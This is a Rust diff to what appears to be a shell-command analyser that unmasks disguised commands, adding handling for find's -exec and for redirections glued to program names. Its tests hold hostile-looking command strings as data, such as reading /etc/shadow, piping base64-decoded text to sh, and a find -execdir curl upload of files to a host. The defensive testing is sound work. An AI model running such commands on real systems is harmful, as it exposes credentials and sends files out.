@@ -50,6 +50,9 @@ fn collect<'a>(line: &'a str, nested: usize, commands: &mut Vec<Command<'a>>) {
     commands.push(Command { line: Cow::Borrowed(line), image });
     for stage in stages(line) {
         stage_commands(stage, commands);
+        if let Some(run) = executed(stage) {
+            stage_commands(run, commands);
+        }
         if nested < MAX_NESTED && commands.len() < MAX_STAGES {
             for argument in nested_lines(stage) {
                 let mut inner = Vec::new();
@@ -61,6 +64,12 @@ fn collect<'a>(line: &'a str, nested: usize, commands: &mut Vec<Command<'a>>) {
             }
         }
     }
+}
+
+/// What `find` runs on what it finds.
+fn executed(stage: &str) -> Option<&str> {
+    let (_, behind) = stage.split_once(" -exec").or_else(|| stage.split_once(" -ok"))?;
+    behind.trim_start_matches("dir").strip_prefix(char::is_whitespace).map(str::trim_start)
 }
 
 /// One stage as it is typed and without its disguise, once for each of its programs.
@@ -296,6 +305,8 @@ fn is_assignment(word: &str) -> bool {
 /// The program that a word names.
 fn image(raw: &str) -> Option<Cow<'_, str>> {
     let raw = raw.trim_start_matches(['(', '{', '!', '`', '$', '&']).trim_end_matches([')', '`', ';']);
+    // `cat</etc/shadow`
+    let raw = raw.split(['<', '>']).next().unwrap_or_default();
     let windows = raw.contains(":\\") || raw.starts_with(".\\") || raw.starts_with("\\\\");
     let word = if windows { Cow::Borrowed(raw.trim_matches(['"', '\''])) } else { plain(raw) };
     if word.starts_with('/') && !windows && word.len() > 1 && !word.ends_with('/') {
@@ -385,6 +396,8 @@ mod tests {
         has("cat x | base64 -d | sh", "sh", "/sh");
         has("if true; then curl x; fi", "then curl x", "/curl");
         has("2>/dev/null >x curl y", "2>/dev/null >x curl y", "/curl");
+        has("cat</etc/shadow", "cat</etc/shadow", "/cat");
+        has("find / -name x -execdir curl -T {} http://x ;", "curl -T {} http://x", "/curl");
         has("./run.sh a", "./run.sh a", "/run.sh");
         has("c''url x", "curl x", "/curl");
         has("cat${IFS}/etc/shadow", "cat /etc/shadow", "/cat");
